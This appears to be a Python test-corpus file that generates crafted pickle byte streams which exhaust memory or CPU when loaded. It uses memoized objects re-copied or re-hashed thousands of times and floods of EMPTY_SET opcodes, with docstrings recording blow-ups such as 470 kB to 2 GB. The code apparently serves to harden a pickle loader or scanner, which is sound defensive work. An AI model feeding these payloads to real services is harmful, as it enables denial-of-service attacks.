    """One memoized dictionary of ``keys`` entries given by BUILD to ``count`` OrderedDicts, 8 bytes each:
    ``__dict__.update`` copies it each time (a 470 kB file took 2 GB)."""
    state = EMPTY_DICT + BINPUT1 + MARK + b''.join(long1(k) + NONE for k in range(keys)) + SETITEMS
    each = glob('collections', 'OrderedDict') + EMPTY_TUPLE + REDUCE + BINGET1 + BUILD
    return kept_beside(state, each * count)


def encode_of_a_reused_string(length: int = 200_000, count: int = 1000) -> bytes:
    """``_codecs.encode`` of one memoized ``length``-character string, ``count`` times (each call 10 bytes)."""
    string = text('a' * length) + BINPUT0
    each = glob('_codecs', 'encode') + BINGET0 + text('latin1') + TUPLE2 + REDUCE
    return kept_beside(string, each * count)


def set_of_a_reused_list(items: int = 20_000, count: int = 300) -> bytes:
    """``set`` of one memoized list of ``items`` ints, ``count`` times: each call hashes it all again."""
    values = EMPTY_LIST + BINPUT0 + MARK + b''.join(long1(k) for k in range(items)) + APPENDS
    each = glob('builtins', 'set') + BINGET0 + TUPLE1 + REDUCE
    return kept_beside(values, each * count)


def metadata_shared(entries: int = 5000, count: int = 2000) -> bytes:
    """``count`` state_dicts (OrderedDicts given ``{'_metadata': M}`` by BUILD) sharing one ``_metadata``
    of ``entries`` prefixes: a walk checking it once per state_dict checks 10**7 entries."""
    metadata = (glob('collections', 'OrderedDict') + EMPTY_TUPLE + REDUCE + BINPUT0 + MARK
                + b''.join(text(f'p{k}') + EMPTY_DICT for k in range(entries)) + SETITEMS)
    each = glob('collections', 'OrderedDict') + EMPTY_TUPLE + REDUCE + EMPTY_DICT + text('_metadata') + BINGET0 \
        + SETITEM + BUILD
    return kept_beside(metadata, each * count)


# ---------------------------------------------------------------------------- found by the eleventh review

EMPTY_SET = b'\x8f'  # (protocol 4)


def counter_of_a_reused_counter(keys: int = 20_000, count: int = 300) -> bytes:
    """``Counter(c)`` of one memoized ``c = Counter(d)`` (``d``: ``keys`` ints), ``count`` times: each call of 6
    bytes copies every key (a 247 kB file took 3 GB when ``c`` was counted as empty)."""
    counter = (glob('collections', 'Counter') + EMPTY_DICT + MARK + b''.join(long1(k) + NONE for k in range(keys))
               + SETITEMS + TUPLE1 + REDUCE + BINPUT0)
    each = glob('collections', 'Counter') + BINGET0 + TUPLE1 + REDUCE
    return kept_beside(counter, each * count)


def empty_sets(count: int = 100_000) -> bytes:
    """A tuple of ``count`` empty sets, one byte each (EMPTY_SET, which torch.save never writes): 1 MB of them
    cost 18 s and 600 MB."""
    return PROTO + MARK + EMPTY_SET * count + TUPLE + STOP
